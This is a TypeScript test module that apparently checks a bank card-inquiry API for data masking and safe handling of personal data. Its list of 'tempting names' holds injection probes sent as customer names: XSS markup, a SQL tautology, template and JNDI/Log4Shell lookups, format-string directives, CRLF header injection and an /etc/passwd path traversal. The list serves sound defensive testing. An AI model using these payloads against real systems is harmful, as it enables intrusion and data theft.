// What leaves the bank, probed on purpose: people and ids that tempt a program to repeat, interpret or mask them, and
// cards that may not be shown. The general rules are held for every answer (verify/every-answer.ts).
import type { Customer } from '../../core/messages.ts';
import type { Check, Endpoint, Exchange } from '../check.ts';
import { CONTRACT_CUSTOMERS, expectedAnswer } from '../customers.ts';
import type { Finding } from '../verification.ts';
import { expectCode, findingOf, memberOf } from '../verify/findings.ts';
import { personalEchoIn } from '../verify/personal-echo.ts';
import { askedAs } from './contract-customer.ts';
import { expectTaken } from './outcomes.ts';
import { nobody } from './people.ts';

const NOTHING_LEAVES = 'issuer-api.yaml, introduction (Nothing but what the schemas name leaves the issuer)';

/** Names that the form allows: any text of 1 to 64 characters. */
const TEMPTING_NAMES: readonly (readonly [string, string])[] = [
  ['markup', '<script>alert("无此人")</script>'],
  ['a quote and a comment of SQL', `无此人' OR '1'='1' --`],
  ['expressions of templates', `\${7*7}{{7*7}}#{7*7}<%=7*7%>`],
  ['a lookup of a logger', `\${jndi:ldap://network.invalid/a}`],
  ['directives of a formatter', '%s%s%n%x %1$s'],
  ['the end of a header line', '无此人\r\nSet-Cookie: probe=1'],
  ['a character NUL', '无\u0000此人'],
  ['a path', '../../../../etc/passwd'],
  ['64 characters beyond the BMP', '𠮷'.repeat(64)],
  ['the digits of a card', '6222021234567890123'],
];

const temptingNames: Check = {
  name: 'masking/tempting-names',
  title: 'A name is a text and no more: markup, SQL, control and rare characters are answered like any other',
  source: 'issuer-api.yaml, InquiryRequest (name)',
  needs: [],
  run: async (endpoint) => {
    const findings: Finding[] = [];
    for (const [what, name] of TEMPTING_NAMES) {
      const sent = `POST /v1/card-inquiries, signed, with a name that has ${what}`;
      const exchange = await endpoint.ask(endpoint.inquiryFor({ ...nobody(0), name }), { sent });
      findings.push(...expectTaken(exchange), ...expectNoHeader(exchange, 'set-cookie'));
    }
    return findings;
  },
};

const expectNoHeader = (exchange: Exchange, header: string): readonly Finding[] =>
  exchange.answer.kind === 'answer' && exchange.answer.headers[header]?.includes('probe=1') === true
    ? [findingOf(exchange, `no ${header} made of the name`, `a ${header} made of the name`)]
    : [];

/** Digits alone, which a program may take for a number, or for something to mask. */
const digitIds: Check = {
  name: 'masking/digit-ids',
  title: 'An inquiryId of digits comes back to the letter: no number, not rounded, not masked',
  source: 'issuer-api.yaml, InquiryId',
  needs: [],
  run: async (endpoint) => {
    const findings: Finding[] = [];
    for (const length of [8, 16, 19, 64]) {
      const inquiryId = digitsOf(endpoint, length);
      const inquiry = { ...endpoint.inquiryFor(nobody(0)), inquiryId };
      const words = `an inquiryId of ${length} digits`;
      const asked = await endpoint.ask(inquiry, { sent: `POST /v1/card-inquiries, signed, with ${words}` });
      const seen = await endpoint.status(inquiryId, { sent: `GET with ${words}` });
      for (const exchange of [asked, seen]) findings.push(...expectTaken(exchange), ...expectId(exchange, inquiryId));
    }
    return findings;
  },
};

/** Fresh ones, with zeros in front, which a number does not have. */
const digitsOf = (endpoint: Endpoint, length: number): string => {
  const digits = BigInt(`0x${endpoint.freshId().replaceAll(/[^0-9a-f]/g, '')}`).toString();
  return digits.slice(-(length - 1)).padStart(length, '0');
};

const expectId = (exchange: Exchange, inquiryId: string): readonly Finding[] =>
  exchange.answer.kind === 'failure' || memberOf(exchange.answer, 'inquiryId') === inquiryId
    ? []
    : [findingOf(exchange, 'the inquiryId to the letter', 'another inquiryId')];

/** Later answers about an inquiry know the person, too, and the request for them does not name them. */
const tellsNobody: Check = {
  name: 'masking/later-answers',
  title: 'What is said later of an inquiry, by GET or as 409, repeats nothing of the person it was about',
  source: NOTHING_LEAVES,
  needs: [],
  run: async (endpoint) => {
    const inquiry = endpoint.inquiryFor(nobody(2));
    const first = await endpoint.ask(inquiry);
    const seen = await endpoint.status(inquiry.inquiryId);
    const other = { ...inquiry, customer: nobody(3) };
    const refused = await endpoint.ask(other, {
      sent: 'POST /v1/card-inquiries, signed, another body under an id that is bound',
    });
    return [seen, refused].flatMap(({ answer, ...exchange }) => {
      const found = answer.kind === 'answer' ? personalEchoIn(answer, first.request) : undefined;
      return found === undefined
        ? []
        : [findingOf({ ...exchange, answer, request: first.request }, 'nothing of the person asked about', found)];
    });
  },
};

const hiding = Object.entries(CONTRACT_CUSTOMERS).filter(
  ([, customer]) => expectedAnswer(customer).unsupported.length > 0,
);

const hiddenCards: Check = {
  name: 'masking/hidden-cards',
  title: 'Of a card that may not be shown no digit is seen in any part of the answer: it is counted and not named',
  source: 'R3; issuer-api.yaml, InquiryResult (no card is named)',
  needs: ['states'],
  run: async (endpoint) => {
    const findings: Finding[] = [];
    for (const [name, customer] of hiding) {
      await endpoint.given('a customer', { customer });
      const sent = `POST /v1/card-inquiries, signed, about the customer ${name}`;
      const exchange = await endpoint.ask(endpoint.inquiryFor(askedAs(customer)), { sent });
      const shown = new Set(expectedAnswer(customer).cards.map(({ panLast4 }) => panLast4));
      const hidden = customer.cards.map(({ panLast4 }) => panLast4).filter((last4) => !shown.has(last4));
      findings.push(...expectCode(exchange, 200, '00'), ...expectWithout(exchange, hidden));
      await endpoint.endStates();
    }
    return findings;
  },
};

/** Looked for where digits end: the inquiryId aside, which is ours. */
const expectWithout = (exchange: Exchange, hidden: readonly string[]): readonly Finding[] => {
  const { answer } = exchange;
  if (answer.kind === 'failure') return [];
  const inquiryId = memberOf(answer, 'inquiryId');
  const text = typeof inquiryId === 'string' ? answer.text.replaceAll(inquiryId, '') : answer.text;
  return hidden.some((last4) => new RegExp(`${last4}(?!\\d)`).test(text))
    ? [findingOf(exchange, 'no digit of a card that may not be shown', 'the last four digits of one')]
    : [];
};

/** The bank looked, and found somebody: that, too, is not to be told beyond 422. */
const deniedDetails: Check = {
  name: 'masking/denied-details',
  title: 'A denial tells nothing of whom the bank has: neither their name nor mobile nor any card',
  source: NOTHING_LEAVES,
  needs: ['states'],
  run: async (endpoint) => {
    const [, customer] = hiding[0] ?? [];
    if (customer === undefined) throw new Error('no customer of the contract has a card that may not be shown');
    await endpoint.given('a customer', { customer });
    const asked: Customer = { ...nobody(0), idNumber: customer.idNumber };
    const exchange = await endpoint.ask(endpoint.inquiryFor(asked), {
      sent: 'POST /v1/card-inquiries, signed, about a customer under another name and mobile',
    });
    const known = { body: JSON.stringify({ customer: askedAs(customer) }) };
    const found = exchange.answer.kind === 'answer' ? personalEchoIn(exchange.answer, known) : undefined;
    return [
      ...expectCode(exchange, 422, '66'),
      ...(found === undefined ? [] : [findingOf(exchange, 'nothing of whom the bank has', found)]),
      ...expectWithout(
        exchange,
        customer.cards.map(({ panLast4 }) => panLast4),
      ),
    ];
  },
};

export const MASKING_CHECKS: readonly Check[] = [temptingNames, digitIds, tellsNobody, hiddenCards, deniedDetails];
